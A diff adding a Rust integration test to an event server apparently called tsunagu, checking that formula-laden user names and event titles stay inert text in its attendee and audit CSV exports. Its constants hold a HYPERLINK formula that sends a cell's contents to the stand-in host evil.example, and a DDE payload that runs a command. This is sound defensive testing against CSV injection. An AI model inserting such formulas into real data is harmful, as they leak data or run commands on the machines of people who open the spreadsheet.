@@ -12,6 +12,7 @@ use reqwest::{Method, StatusCode};
 use serde_json::json;
 use tsunagu_core::api::{Me, NetworkInfo, Role};
 use tsunagu_core::checkin::{CheckinLog, Scan};
+use tsunagu_core::event::{EventStatus, SeatStatus};
 use tsunagu_server::{Config, DEMO_PASSWORD, Rate, Server};
 
 const ADMIN: &str = "admin@example.com";
@@ -364,4 +365,75 @@ async fn item3_a_scan_in_the_check_in_log_cannot_be_overwritten_or_added_to() {
     let now = CheckinLog::read(&relay_copy(&relay, &admin, log).await).expect("a log");
     assert_eq!(now.scans.len(), 1);
     assert_eq!(now.scans["n1"].ticket, "t-hanako");
+}
+
+/// The cells of a CSV download (after its BOM), row by row.
+async fn csv_cells(relay: &TestRelay, cookie: &str, path: &str) -> Vec<Vec<String>> {
+    let response = call(relay, Method::GET, path, Some(cookie), None).await;
+    assert_eq!(response.status(), StatusCode::OK, "{path}");
+    let bytes = response.bytes().await.expect("a body");
+    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a BOM");
+    csv::Reader::from_reader(body)
+        .records()
+        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
+        .collect()
+}
+
+#[tokio::test]
+async fn item6_a_formula_in_a_name_or_a_title_stays_text_in_every_csv_export() {
+    const NAME: &str = "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")";
+    const TITLE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let relay = TestRelay::start().await;
+    let (admin_cookie, admin) = sign_in(relay.addr(), ADMIN).await;
+    let event = create_event(&relay, &admin_cookie, "忘年会", JAN_15_2030).await;
+    let mut desk = device_with(&relay, &admin_cookie, &[event.event]).await;
+    desk.edit_event(event.event, |e| {
+        e.status = EventStatus::Published.key().into()
+    })
+    .await;
+    desk.wait_acknowledged(&admin.relay_storage).await;
+
+    // Hanako names herself with a formula and answers.
+    let (hanako_cookie, hanako) = sign_in(relay.addr(), "hanako@example.com").await;
+    let (rsvps, passes) = (
+        hanako.rsvps_doc.expect("rsvps"),
+        hanako.passes_doc.expect("passes"),
+    );
+    let mut phone = device_with(&relay, &hanako_cookie, &[hanako.profile_doc, rsvps, passes]).await;
+    phone
+        .edit(hanako.profile_doc, |p| p.name = NAME.into())
+        .await;
+    phone.wait_acknowledged(&hanako.relay_storage).await;
+    phone
+        .answer(rsvps, event.event, true, JAN_15_2030 - 86_400)
+        .await;
+    phone
+        .wait_for_seat(passes, event.event, SeatStatus::Confirmed)
+        .await;
+    // Ken proposes an event whose title is a formula; the audit log names it.
+    let (ken_cookie, _) = sign_in(relay.addr(), "ken@example.com").await;
+    create_event(&relay, &ken_cookie, TITLE, JAN_15_2030).await;
+
+    let attendees = csv_cells(
+        &relay,
+        &admin_cookie,
+        &format!("/api/events/{}/attendees.csv", event.event),
+    )
+    .await;
+    let audit = csv_cells(&relay, &admin_cookie, "/api/admin/audit.csv").await;
+    let cells: Vec<&String> = attendees.iter().chain(&audit).flatten().collect();
+    assert!(
+        cells.iter().any(|c| **c == format!("'{NAME}")),
+        "{attendees:?}"
+    );
+    assert!(
+        cells.iter().any(|c| **c == format!("'{TITLE}")),
+        "{audit:?}"
+    );
+    for cell in cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a live formula: {cell:?}"
+        );
+    }
 }
